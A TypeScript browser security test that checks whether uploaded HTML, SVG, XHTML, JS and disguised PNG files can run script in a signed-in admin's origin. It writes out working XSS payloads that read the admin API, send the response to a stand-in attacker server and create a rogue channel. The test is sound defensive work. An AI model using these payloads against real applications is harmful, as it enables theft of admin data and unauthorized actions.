import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdirSync } from 'node:fs';
import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { chromium, type Browser, type Download, type Page } from 'playwright-core';
import { listChannels } from '../../app/store/channels.ts';
import { uploadFiles } from '../support/files.ts';
import { startBridgeWithPipedrive } from '../support/install.ts';
import { seedChannel, seedConversation } from '../support/seed.ts';
import { TestPlatform } from '../support/test-provider.ts';

/**
 * Uploaded files opened in a signed-in admin's real browser (Debian's Chromium, driven by
 * playwright-core) never run script in the app's origin: each file below tries to read the
 * admin API, connect a channel, and leave a marker in the app origin's localStorage.
 */
const CHROMIUM = process.env.CHROMIUM_PATH || '/usr/bin/chromium';
const ARGS = ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run'];
const skip = existsSync(CHROMIUM) ? false : `Chromium not found at ${CHROMIUM} (install it with apt-get install chromium, or set CHROMIUM_PATH)`;

/** What a hostile file does if it ever runs as the app: mark, read the admin API, connect a channel, tell its owner. */
const payload = (marker: string, spy: string) =>
  `localStorage.setItem('${marker}', 'ran'); document.title = 'PWNED';` +
  `fetch('/admin/api/channels').then(function (r) { return r.text(); }).then(function (t) {` +
  `  fetch('${spy}/leak?m=${marker}', { method: 'POST', mode: 'no-cors', body: t });` +
  `  return fetch('/admin/api/channels', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ provider: 'test', name: 'pwned-${marker}', config: { secret: 'x' } }) });` +
  `});`;

test("an uploaded HTML, SVG or JS attachment opened in a signed-in admin's Chromium runs no script in the app's origin", { skip, timeout: 90_000 }, async () => {
  const platform = new TestPlatform();
  const { bridge, fake, close } = await startBridgeWithPipedrive({ platforms: { test: platform.factory() } });
  // The attacker's server: any request reaching it means a payload ran.
  const leaks: string[] = [];
  const spyServer = createServer((req: IncomingMessage, res) => {
    leaks.push(req.url ?? '');
    res.end();
  });
  await new Promise<void>((r) => spyServer.listen(0, '127.0.0.1', r));
  const spy = `http://127.0.0.1:${(spyServer.address() as AddressInfo).port}`;
  let browser: Browser | undefined;
  let page: Page | undefined;
  try {
    await fake.linkApp(bridge.url);
    browser = await chromium.launch({ executablePath: CHROMIUM, args: ARGS, headless: true, timeout: 30_000 });
    page = await (await browser.newContext({ acceptDownloads: true })).newPage();
    page.setDefaultTimeout(10_000);
    const dialogs: string[] = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });

    // Sign in like an admin does: the SameSite=Strict session survives the trip through Pipedrive's consent.
    await page.goto(`${bridge.url}/admin`);
    await page.click('#install');
    await page.waitForURL(`${bridge.url}/admin`);
    await page.getByText('Signed in as').waitFor();

    // Another company's user posts the files (as Pipedrive does, through postMessage).
    const channel = await seedChannel(bridge);
    const conv = await seedConversation(bridge, channel);
    const js = await uploadFiles(bridge, channel, conv, [{ name: 'evil.js', type: 'application/javascript', data: payload('js', spy) }]);
    const files = await uploadFiles(bridge, channel, conv, [
      {
        name: 'evil.html',
        type: 'text/html',
        data: `<!doctype html><title>hi</title><script>${payload('html', spy)}</script><script src="${js.get('evil.js')}"></script><img src=x onerror="${payload('onerror', spy).replaceAll('"', '&quot;')}">`,
      },
      { name: 'evil.svg', type: 'image/svg+xml', data: `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('svg onload')"><script>${payload('svg', spy)}</script></svg>` },
      { name: 'evil.xhtml', type: 'application/xhtml+xml', data: `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>${payload('xhtml', spy)}</script></body></html>` },
      { name: 'disguised.png', type: 'image/png', data: `<!doctype html><script>${payload('sniffed', spy)}</script>` },
    ]);
    const all = new Map([...js, ...files]);

    // Open every file as the admin would (a top-level navigation in the signed-in browser).
    const outcomes = new Map<string, string>();
    for (const [name, url] of all) {
      const downloaded: Promise<Download | null> = page.waitForEvent('download', { timeout: 10_000 }).catch(() => null);
      const rendered = await page.goto(url).then(
        () => true,
        () => false,
      );
      if (rendered) {
        outcomes.set(name, 'rendered');
        continue;
      }
      const download = await downloaded;
      outcomes.set(name, download ? `download ${download.suggestedFilename()}` : 'nothing');
      await download?.cancel();
    }

    // Back in the app's origin: no marker, nothing read, nothing connected, no dialog.
    await page.goto(`${bridge.url}/admin`);
    await page.getByText('Signed in as').waitFor();
    const markers = await page.evaluate(() => Object.keys(localStorage));
    assert.deepEqual(markers, []);
    assert.deepEqual(dialogs, []);
    assert.deepEqual(leaks, []);
    assert.deepEqual(
      (await listChannels(bridge.db, { includeDeleted: true })).map((c) => c.name).filter((n) => n.startsWith('pwned')),
      [],
    );
    // Everything active was a download (no document of ours is made from it); the image type
    // rendered as an image, never sniffed into HTML.
    assert.deepEqual(Object.fromEntries(outcomes), {
      'evil.js': 'download evil.js',
      'evil.html': 'download evil.html',
      'evil.svg': 'download evil.svg',
      'evil.xhtml': 'download evil.xhtml',
      'disguised.png': 'rendered',
    });
  } catch (err) {
    if (page) {
      mkdirSync('test-results', { recursive: true });
      const file = join('test-results', `files-browser-${process.env.TEST_DB ?? 'sqlite'}-${Date.now()}.png`);
      await page.screenshot({ path: file, fullPage: true }).catch(() => {});
      console.error(`screenshot saved to ${file}`);
    }
    throw err;
  } finally {
    await browser?.close();
    await new Promise<void>((r) => spyServer.close(() => r()));
    await close();
  }
});
